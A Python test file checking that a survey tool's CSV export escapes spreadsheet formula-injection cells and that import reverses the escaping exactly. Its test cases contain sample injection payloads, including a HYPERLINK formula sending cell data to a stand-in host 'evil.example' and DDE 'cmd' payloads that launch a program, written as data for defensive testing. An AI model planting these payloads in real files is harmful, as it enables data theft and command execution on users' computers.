"""No CSV the system writes holds a cell a spreadsheet would run, and importing undoes it.

Two properties (issue #15, item 3): every written cell is safe to open (it does not begin
with `=`, `+`, `-`, `@`, tab or carriage return, unless it is a plain negative number), and
the mapping is exactly invertible, so `export -> import -> export` is byte-identical.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from exchange_rows import FORMULA_TEXTS, Row, random_rows, write_rows
from hypothesis import given, settings
from hypothesis import strategies as st

from sharedground.analysis.render import csv_text
from sharedground.exchange.columns import MODES, item_columns
from sharedground.exchange.csvfile import free_text_columns
from sharedground.exchange.exporter import export_wave, wave_frame
from sharedground.exchange.formulas import (
    TRIGGERS,
    needs_quote,
    neutralise,
    neutralise_expr,
    restore,
    restore_expr,
)
from sharedground.exchange.importer import import_file
from sharedground.instrument import NONE_CHOSEN, builtin
from sharedground.instrument.model import ID_PATTERN
from sharedground.store import Store

DMR_2015 = builtin("dmr-2015")
# Independent of the module's own pattern: what a spreadsheet reads as a plain number.
PLAIN_NEGATIVE = re.compile(r"-(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?", re.ASCII)
# Text biased towards the characters that matter: triggers and quotes at the start.
CELLS = st.text(
    st.sampled_from([*TRIGGERS, "'", "1", ".", "e", "a", " ", "\n", '"', "A", "(", "1"])
    | st.characters(blacklist_categories=("Cs",)),
    max_size=12,
)


def is_safe(cell: str) -> bool:
    """What a spreadsheet will not run: no trigger first, or a plain negative number."""
    return not cell.startswith(TRIGGERS) or PLAIN_NEGATIVE.fullmatch(cell) is not None


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?d="&A2, "click")', "'=HYPERLINK(\"http"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("-2+3", "'-2+3"),
        ("\t=1+2", "'\t=1"),
        ("\r=1+2", "'\r=1"),
        ("'already", "''already"),
        ("-3", "-3"),
        ("-0.25", "-0.25"),
        ("-1e-05", "-1e-05"),
        ("-3\n", "'-3\n"),
        ("ordinary", "ordinary"),
        ("", ""),
    ],
)
def test_cells_are_written_safe(cell: str, written: str) -> None:
    assert neutralise(cell).startswith(written)
    assert restore(neutralise(cell)) == cell


@settings(max_examples=500, deadline=None)
@given(cell=CELLS)
def test_neutralise_is_safe_and_restore_inverts_it(cell: str) -> None:
    written = neutralise(cell)
    assert is_safe(written)
    assert restore(written) == cell
    # Injective: only cells that needed it are changed, and always by one leading quote.
    assert written == cell or written == "'" + cell


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(st.none() | CELLS, max_size=20))
def test_polars_expressions_agree_with_the_functions(cells: list[str | None]) -> None:
    frame = pl.DataFrame({"c": cells}, schema={"c": pl.String})
    written = frame.select(neutralise_expr(pl.col("c")))["c"].to_list()
    assert written == [None if c is None else neutralise(c) for c in cells]
    back = pl.DataFrame({"c": written}, schema={"c": pl.String}).select(restore_expr(pl.col("c")))
    assert back["c"].to_list() == cells


def _cells_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_export_has_no_formula_and_round_trips(store: Store, tmp_path: Path) -> None:
    rows = random_rows(DMR_2015, len(FORMULA_TEXTS) + 1, seed=3)
    for row, text in zip(rows, FORMULA_TEXTS, strict=False):
        row["comments_overall"] = text
    rows[0]["respondent_id"] = "=1+2"
    rows[1]["respondent_id"] = "-2+3"
    rows[2]["respondent_id"] = "'R3"
    source = write_rows(rows, DMR_2015, tmp_path / "in.csv")
    written = _cells_of(source)
    assert written[1][0] == "'=1+2"
    assert written[2][0] == "'-2+3"
    assert written[3][0] == "''R3"
    assert all(is_safe(cell) for line in written for cell in line)

    assert import_file(store, source, "w").added == len(rows)
    _, frame = wave_frame(store, "w")
    # Stored as given, without the quotes the file carried.
    assert frame["respondent_id"].to_list()[:3] == ["=1+2", "-2+3", "'R3"]
    assert frame["comments_overall"].to_list()[: len(FORMULA_TEXTS)] == list(FORMULA_TEXTS)
    exported = tmp_path / "out.csv"
    export_wave(store, "w", "csv", exported)
    assert exported.read_bytes() == source.read_bytes()


def test_hand_made_file_with_a_formula_is_stored_as_typed(store: Store, tmp_path: Path) -> None:
    """A file not written by the system: only a leading quote is read as the escape."""
    path = tmp_path / "hand.csv"
    path.write_text("respondent_id,role,comments_overall\nA,medical_director,=1+2\n")
    import_file(store, path, "w", allow_missing_items=True)
    _, frame = wave_frame(store, "w")
    assert frame["comments_overall"].to_list() == ["=1+2"]
    exported = tmp_path / "out.csv"
    export_wave(store, "w", "csv", exported)
    assert _cells_of(exported)[1][_cells_of(exported)[0].index("comments_overall")] == ("'=1+2")


def test_analysis_csv_neutralises_text_but_keeps_negative_numbers() -> None:
    lines: list[Row | dict[str, object]] = [
        {"label": "=cmd|' /C calc'!A0", "diff": -3.5, "p": 1e-05, "note": None},
        {"label": "-2+3", "diff": -0.0, "p": 0.5, "note": "'x"},
    ]
    text = csv_text(["label", "diff", "p", "note"], lines)  # type: ignore[arg-type]
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[1:] == [
        ["'=cmd|' /C calc'!A0", "-3.5", "1e-05", ""],
        ["'-2+3", "-0.0", "0.5", "''x"],
    ]


@pytest.mark.parametrize("key", ["dmr-2015", "dmr-2002"])
def test_only_free_text_columns_can_need_a_quote(key: str) -> None:
    """The exchange writer neutralises only `free_text_columns`: every value any other
    column may hold must be one that never needs it."""
    instrument = builtin(key)
    free = set(free_text_columns(instrument))
    values: set[str] = {*MODES, *instrument.role_ids(), NONE_CHOSEN, "2015-05-01"}
    for column in item_columns(instrument):
        if column.name in free:
            continue
        assert column.kind != "text"
        values |= {*column.allowed, *column.options}
    assert values and not [v for v in values if needs_quote(v)]
    # Ids are bound to begin with a letter, whatever instrument a user writes.
    assert ID_PATTERN.startswith("^[a-z]")
